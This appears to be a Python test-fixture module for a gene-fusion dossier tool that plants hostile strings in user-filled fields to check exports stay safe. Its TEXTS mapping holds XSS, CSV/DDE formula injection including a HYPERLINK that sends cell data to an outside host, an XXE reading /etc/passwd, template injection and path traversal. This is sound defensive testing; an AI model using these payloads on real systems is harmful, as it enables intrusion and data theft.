"""Texts at their worst, and a dossier that holds one in every place that people or files fill.

One corpus for everything that is written: exports, page, meeting and its PDF. What a text is made
of must neither change what a file is made of nor be lost from it.
"""

from __future__ import annotations

import re
from functools import cache
from typing import TYPE_CHECKING, Any, Final

from tests.dossier.examples import example_dossiers

from nutfusion.model.dossier import Declared

if TYPE_CHECKING:
    from collections.abc import Mapping

    from nutfusion.model.dossier import Dossier

TEXTS: Final[Mapping[str, str]] = {
    # markup that runs, in an element, an attribute and a script
    "markup": "\"'><script>alert(1)</script><img src=x onerror=alert(2)><!--",
    "link": "javascript:alert(1)",
    # what spreadsheets compute or call (OWASP, "CSV Injection")
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"see")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    # what breaks cells, rows and lines apart
    "cells": "a\tb,c;d\"e'f|g",
    "lines": "a\r\nb\nc\u2028d\x85e",
    "quote": '"open',
    # XML: entities, sections, documents in documents
    "entity": "&xxe;&lt;&#0;]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    # characters that XML, VCF or a terminal has no place for
    "control": "a\x00b\x07c\x1b[31md\x7fe\ufffef",
    "direction": "a\u202eb\u200bc",
    # the languages of templates, wildcards, percent codes
    "template": "{{7*7}}{% raw %}${x}{wildcards.sample}%s%41%",
    "vcf": "A;B=C:D,E<F>[G]H",
    "path": "../../../etc/passwd",
    "nothing": " ",
}
"""By what they try."""

PATHS: Final = (
    "../x",
    "/etc/x",
    "a/b",
    "a\\b",
    ".",
    "..",
    "-x",
    ".x",
    "a\x00b",
    "a\nb",
    "",
    " x",
    "é",
)
"""Pseudonyms that would be places, options or lines."""

FIELDS: Final = ("run", "disease", "detail", "gene", "name", "synonym", "title_fr", "panel")
"""Places of a dossier that people or other programs fill."""


def planted(field: str, text: str) -> str:
    """The text of one place: each can be told from the others by its end."""
    return f"{text} in {field}"


def plain(text: str) -> str:
    """A harmless text as long as another."""
    return "P" * len(text)


@cache
def _example() -> Dossier:
    return example_dossiers()["positive"]


def laden(text: str) -> Dossier:
    """The positive example with a text in every place of ``FIELDS``."""
    said = {field: planted(field, text) for field in FIELDS}
    dossier = _example()
    first = dossier.fusions[0]
    gene = first.five_prime_gene
    assert gene is not None
    test, *others = dossier.sample.orthogonal
    changes: dict[str, Any] = {
        "five_prime_gene": gene.model_copy(update={"symbol": said["gene"], "hgnc_id": None}),
        "name": said["name"],
        "synonyms": (said["synonym"],),
    }
    sample = {
        "run": said["run"],
        "declared": Declared(disease=said["disease"], pretreated=None, relapse=None),
        "orthogonal": (test.model_copy(update={"detail": said["detail"]}), *others),
    }
    return dossier.model_copy(
        update={
            "sample": dossier.sample.model_copy(update=sample),
            "fusions": (first.model_copy(update=changes), *dossier.fusions[1:]),
            "assay": dossier.assay.model_copy(update={"title_fr": said["title_fr"]}),
            "provenance": dossier.provenance.model_copy(update={"panel": said["panel"]}),
        }
    )


_BLANK: Final = re.compile("[\x00-\x20\x7f-\xa0\u2028\u2029\u202f\ufffd-\uffff]+")


def readable(text: str) -> str:
    """A text as a reader sees it: characters without a shape, and runs of blanks, are one blank."""
    return _BLANK.sub(" ", text).strip()
